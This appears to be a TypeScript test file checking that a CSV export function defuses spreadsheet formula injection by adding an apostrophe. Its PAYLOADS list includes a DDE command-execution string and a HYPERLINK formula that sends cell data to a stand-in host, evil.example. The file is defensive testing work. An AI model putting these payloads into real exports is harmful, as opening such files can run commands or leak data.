import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Cell, toCsvLine } from '../../../src/desk/reports/csv.ts';

const read = (line: string): string[] => parse(line)[0] ?? [];

/** What spreadsheets begin to compute at. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"here")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '"=1+1"',
  "'=1+1",
  ' " =1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '−1',
  'shoes\n=1+1',
  'shoes;=1+1',
  'shoes\t@SUM(1)',
];

describe('a line of a table', () => {
  it.each(PAYLOADS)('has an apostrophe where %j would be computed', (payload) => {
    const [cell = ''] = read(toCsvLine([payload]));
    for (const piece of cell.split(/[;\t\r\n]/))
      expect(piece).not.toMatch(/^[\s"\u200b\ufeff]*[=+\-@＝＋－＠−]/u);
    expect(cell.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
  });

  it('leaves numbers of ours as they are, negative ones too', () => {
    expect(toCsvLine([-12.5, 0, undefined, 'x'])).toBe('-12.5,0,,x\r\n');
  });

  it('leaves words alone that only hold such signs', () => {
    expect(toCsvLine(['a-b', 'x = y', 'me@shop.example', "rock 'n' roll"])).toBe(
      "a-b,x = y,me@shop.example,rock 'n' roll\r\n",
    );
  });

  it('is read back as it was, but for the apostrophes', () => {
    const cell: fc.Arbitrary<Cell> = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.integer(),
      fc.constantFrom(...PAYLOADS),
    );
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        const back = read(`${toCsvLine([...cells, 'end'])}`).slice(0, -1);
        const plain = (text: string) => text.replaceAll("'", '');
        expect(back.map(plain)).toEqual(cells.map((one) => plain(String(one ?? ''))));
      }),
    );
  });
});
